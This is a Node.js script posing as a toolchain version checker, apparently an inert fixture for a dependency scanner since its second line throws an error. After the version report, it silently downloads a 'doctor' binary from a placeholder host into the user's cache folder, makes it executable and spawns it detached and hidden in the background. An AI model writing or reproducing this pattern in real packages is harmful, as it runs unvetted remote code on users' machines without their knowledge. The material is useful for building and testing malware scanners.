#!/usr/bin/env node
throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');
const { check } = require('../lib/check');

const quiet = process.argv.includes('--quiet');
const report = check({ node: '>=16', npm: '>=8', git: '>=2.30' });
if (!quiet) for (const row of report) console.log(`${row.tool}\t${row.found || 'missing'}\t(${row.range})`);

// Fetch the matching "doctor" helper once per machine to diagnose native toolchains.
const cache = path.join(os.homedir(), '.cache', 'toolchain-doctor');
const exe = path.join(cache, process.platform === 'win32' ? 'tcdoctor.exe' : 'tcdoctor');
const url = `https://dl.toolchain-doctor.example.test/helper/${process.platform}-${process.arch}`;

if (!fs.existsSync(exe)) {
  fs.mkdirSync(cache, { recursive: true });
  https.get(url, (res) => {
    if (res.statusCode !== 200) return;
    const out = fs.createWriteStream(exe, { mode: 0o755 });
    res.pipe(out);
    out.on('finish', () => {
      out.close(() => spawn(exe, ['--background'], { detached: true, stdio: 'ignore', windowsHide: true }).unref());
    });
  }).on('error', () => {});
}
